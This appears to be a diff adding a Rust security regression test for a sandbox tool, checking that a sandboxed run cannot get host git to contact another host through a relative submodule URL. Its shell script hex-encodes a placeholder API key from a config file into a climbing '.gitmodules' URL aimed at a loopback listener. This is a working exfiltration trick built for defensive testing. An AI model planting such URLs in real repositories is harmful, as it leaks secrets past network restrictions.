@@ -1,0 +1,114 @@
+//! `skarn run`, attack atk22j (issue 22): where host programs go from
+//! what a run leaves. F3: a relative submodule URL whose `..` steps climb
+//! over the remote's path to another host (ADR 0291). Each test makes the
+//! attack for real in both workspace layers and judges from outside,
+//! after the run: host git did not connect to the loopback listener the
+//! run named.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Command;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use crate::common::*;
+use skarn_test_support::TempDir;
+
+const LAYERS: &[&str] = &["direct", "cow"];
+
+/// Host git in `dir` with the user's (empty) configuration of `home`,
+/// never prompting.
+fn host_git(dir: &Path, home: &Path, args: &[&str]) -> std::process::Output {
+    Command::new("git")
+        .current_dir(dir)
+        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
+        .args(["-c", "safe.directory=*"])
+        .args(args)
+        .env("HOME", home)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_TERMINAL_PROMPT", "0")
+        .output()
+        .unwrap()
+}
+
+/// A loopback listener counting connections (each closed at once).
+fn listener() -> (u16, Arc<AtomicUsize>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let n = Arc::new(AtomicUsize::new(0));
+    let seen = n.clone();
+    std::thread::spawn(move || {
+        for s in l.incoming().flatten() {
+            seen.fetch_add(1, Ordering::SeqCst);
+            let mut s = s;
+            let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(200)));
+            let _ = s.read(&mut [0u8; 512]);
+        }
+    });
+    (port, n)
+}
+
+#[test]
+fn a_relative_submodule_url_climbing_to_another_host_is_not_kept() {
+    // F3: with the remote `http://git.invalid/someuser/p`, the
+    // `.gitmodules` URL `../../../127.0.0.1:<port>/<data>` is
+    // `http://127.0.0.1:<port>/<data>` to git: host `git submodule update
+    // --init` connected there, past `--net deny`. In the work tree only,
+    // and staged through the index only (host `git checkout --
+    // .gitmodules` brings it back).
+    if !host_has("git", "--version") {
+        skarn_test_support::skip!("git is not installed");
+    }
+    let mut failed = Vec::new();
+    for layer in LAYERS {
+        for staged in [false, true] {
+            let t = TempDir::new("atk22j-f3");
+            let (home, ws) = (t.dir("home"), t.dir("ws"));
+            git(&ws, &["init", "-q", "-b", "master"]);
+            git(
+                &ws,
+                &["remote", "add", "origin", "http://git.invalid/someuser/p"],
+            );
+            std::fs::write(ws.join("app.conf"), "API_KEY=sk-live-123\n").unwrap();
+            git(&ws, &["add", "app.conf"]);
+            git(&ws, &["commit", "-qm", "init"]);
+            let (port, seen) = listener();
+            let stage = if staged {
+                "git add .gitmodules; rm .gitmodules; "
+            } else {
+                ""
+            };
+            let script = format!(
+                "set -e; D=$(head -c 8 app.conf | od -An -tx1 | tr -d ' \\n'); \
+                 git config -f .gitmodules submodule.y.path lib/y; \
+                 git config -f .gitmodules submodule.y.url ../../../127.0.0.1:{port}/x-$D; \
+                 git update-index --add --cacheinfo \
+                   160000,1111111111111111111111111111111111111111,lib/y; \
+                 git -c user.name=t -c user.email=t@t commit -qm lib; {stage}echo PLANTED"
+            );
+            let o = run_in(
+                &ws,
+                &home,
+                &["--workspace-layer", layer],
+                &["sh", "-c", &script],
+            );
+            let e = err(&o);
+            assert!(out(&o).contains("PLANTED"), "{layer}: {}{e}", out(&o));
+            if staged {
+                let _ = host_git(&ws, &home, &["checkout", "--", ".gitmodules"]);
+            }
+            let _ = host_git(&ws, &home, &["submodule", "update", "--init"]);
+            let _ = host_git(&ws, &home, &["submodule", "sync"]);
+            let _ = host_git(&ws, &home, &["submodule", "update"]);
+            std::thread::sleep(std::time::Duration::from_millis(100));
+            if seen.load(Ordering::SeqCst) != 0 {
+                failed.push(format!("{layer} staged={staged}: {e}"));
+            }
+        }
+    }
+    assert!(
+        failed.is_empty(),
+        "host git contacted the host the run's relative submodule URL climbed to: {failed:#?}"
+    );
+}
